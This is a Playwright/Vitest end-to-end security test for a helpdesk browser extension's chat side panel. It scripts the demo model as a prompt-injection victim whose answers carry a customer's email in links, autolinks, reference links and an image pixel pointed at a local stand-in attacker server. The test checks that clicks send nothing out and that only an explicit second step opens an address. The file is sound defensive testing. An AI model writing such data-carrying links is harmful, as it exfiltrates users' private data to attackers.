import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest';
import { launchChromium, openRealSidePanel, type ChromiumHarness, type SidePanel } from '../e2e/harness/chromium';
import { ask, configureChromium, startModel, waitForChat, type ModelForExtension } from '../e2e/harness/chat';
import { openTicket, sendToBackground, startDemoHelpdesk, TICKET_1, waitIn, type DemoHelpdesk } from '../e2e/harness/deskmate';
import { poll } from '../e2e/harness/wait';
import { attack } from './attack';

/**
 * Finding 3 in real Chromium and the real side panel: the demo model, scripted as an obedient
 * victim of an injection, answers with links and an image that would carry the customer's email
 * to the attacker's server. Nothing reaches that server on a click of the link text, the host
 * shows next to every link, and only the explicit second step opens the full address.
 */
const SECRET = 'maria.lindqvist%40example.com';

describe('security: model-written links in Chromium (finding 3)', () => {
  let chromium: ChromiumHarness;
  let helpdesk: DemoHelpdesk;
  let m: ModelForExtension;
  let attacker: Server;
  let attackerOrigin: string;
  const hits: string[] = [];
  let page: Page | undefined;
  let panel: SidePanel | undefined;

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((ready) => attacker.listen(0, '127.0.0.1', ready));
    // Another port of the same loopback host: another origin, so another site.
    attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    helpdesk = await startDemoHelpdesk();
    m = await startModel({ chunkDelayMs: 2 });
    chromium = await launchChromium();
    await configureChromium(chromium.context, chromium.extensionId, m);
  });
  afterAll(async () => {
    await panel?.close().catch(() => undefined);
    await chromium?.close();
    await m?.model.close();
    await helpdesk?.close();
    attacker?.closeAllConnections();
    await new Promise<void>((done) => (attacker ? attacker.close(() => done()) : done()));
  });
  beforeEach(async () => {
    await panel?.close().catch(() => undefined);
    await page?.close().catch(() => undefined);
    panel = undefined;
    await helpdesk.reset();
    m.model.reset();
    hits.length = 0;
  });

  attack('links, autolinks, reference links and images the model writes carry nothing out on a click', async () => {
    const evil = (path: string) => `${attackerOrigin}/${path}?email=${SECRET}`;
    const answer = [
      `[Open ticket #1047 in the helpdesk](${evil('inline')})`,
      '',
      `Autolink: <${evil('auto')}> and bare ${evil('bare')}`,
      '',
      'See [the refund form][form].',
      '',
      `![status](${evil('pixel.png')})`,
      '',
      `The ticket itself: [ticket](${helpdesk.ticketUrl(TICKET_1.id)})`,
      '',
      `[form]: ${evil('ref')}`,
    ].join('\n');
    m.model.script([{ text: answer }]);
    page = await openTicket(chromium.context, helpdesk, TICKET_1.id);
    panel = await openRealSidePanel(chromium.context, chromium.extensionId, page);
    await panel.waitFor('[data-testid="chat-input"]');
    await ask(panel, 'Where can the customer see the refund?');
    await waitForChat(panel, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
    const p = panel;
    // The helpdesk's own link is trusted once the background's list is in: the answer is settled.
    await waitIn(p, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the helpdesk link trusted');

    const shown = await p.evaluate(() => ({
      hrefs: [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')),
      images: document.querySelectorAll('img, iframe, object, embed').length,
      hosts: [...document.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent),
      toggles: [...document.querySelectorAll('[data-testid="ext-link-toggle"]')].map((b) => b.textContent),
    }));
    const attackerHost = new URL(attackerOrigin).host;
    expect(shown.hrefs).toEqual([helpdesk.ticketUrl(TICKET_1.id)]);
    expect(shown.images).toBe(0);
    expect(shown.hosts).toEqual([attackerHost, attackerHost, attackerHost, attackerHost, attackerHost, new URL(helpdesk.url).host]);
    expect(shown.toggles).toEqual(['Open ticket #1047 in the helpdesk', evil('auto'), evil('bare'), 'the refund form', '[status]']);

    // A real click on each link's text: nothing leaves, no tab opens; the full address shows.
    const pagesBefore = chromium.context.pages().length;
    for (let i = 0; i < shown.toggles.length; i++) {
      await p.evaluate((n) => document.querySelectorAll('[data-testid="ext-link-toggle"]')[n]!.setAttribute('data-n', String(n)), i);
      await p.click(`[data-testid="ext-link-toggle"][data-n="${i}"]`);
    }
    await new Promise((r) => setTimeout(r, 1_000));
    expect(hits).toEqual([]);
    expect(chromium.context.pages().length).toBe(pagesBefore);
    const urls = await p.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
    expect(urls).toEqual([evil('inline'), evil('auto'), evil('bare'), evil('ref'), evil('pixel.png')]);

    // The explicit second step is the way out, and the only one: it opens the address shown.
    const opened = chromium.context.waitForEvent('page', { timeout: 10_000 });
    await p.click('[data-testid="ext-link-step"] [data-testid="ext-link-open"]');
    const tab = await opened;
    // The tab the browser opened asks the same server for its icon too, before or after the page: not ours to count.
    const asked = () => hits.filter((h) => h !== '/favicon.ico');
    await poll(async () => (asked().length ? true : undefined), 'the second step to open the address');
    expect(asked()).toEqual([`/inline?email=${SECRET}`]);
    await tab.close();
  });

  attack('a link to a site the knowledge base only mentions, or one that carries data, opens on one click', async () => {
    const status = `${attackerOrigin}/status`;
    const returns = `${attackerOrigin}/returns`;
    const ticketLink = helpdesk.ticketUrl(TICKET_1.id);
    m.model.script([
      {
        text: [
          `[Open ticket #1047 in the helpdesk](${status}?email=${SECRET})`,
          `[The returns form](${returns}?email=${SECRET})`,
          `[This ticket](${ticketLink}?email=${SECRET})`,
          `[The returns form, as the knowledge base gives it](${returns})`,
        ].join('\n\n'),
      },
    ]);
    page = await openTicket(chromium.context, helpdesk, TICKET_1.id);
    panel = await openRealSidePanel(chromium.context, chromium.extensionId, page);
    await panel.waitFor('[data-testid="chat-input"]');
    // The team's knowledge base names the attacker's status page, and links one exact address there.
    const kb = `# Status\nOutages are posted on ${status} as they happen.\n\n# Returns\nUse [the returns form](${returns}).`;
    expect(await sendToBackground(panel, { type: 'kb.import', files: [{ name: 'kb.md', text: kb }] })).toMatchObject({ ok: true, value: { added: 2 } });
    try {
      await ask(panel, 'Where does the customer return the lamp?');
      await waitForChat(panel, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
      const p = panel;
      // Settled once the exact address the knowledge base links to is trusted.
      await waitIn(p, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the knowledge base’s own link trusted');
      expect(await p.evaluate(() => [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')))).toEqual([returns]);
      const toggles = await p.evaluate(() => document.querySelectorAll('[data-testid="ext-link-toggle"]').length);
      const pagesBefore = chromium.context.pages().length;
      for (let i = 0; i < toggles; i++) {
        await p.evaluate((n) => document.querySelectorAll('[data-testid="ext-link-toggle"]')[n]!.setAttribute('data-n', String(n)), i);
        await p.click(`[data-testid="ext-link-toggle"][data-n="${i}"]`);
      }
      await new Promise((r) => setTimeout(r, 1_000));
      expect(hits).toEqual([]);
      expect(chromium.context.pages().length).toBe(pagesBefore);
      const urls = await p.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
      expect(urls).toEqual([`${status}?email=${SECRET}`, `${returns}?email=${SECRET}`, `${ticketLink}?email=${SECRET}`]);
    } finally {
      await sendToBackground(panel, { type: 'kb.clear' });
    }
  });
});
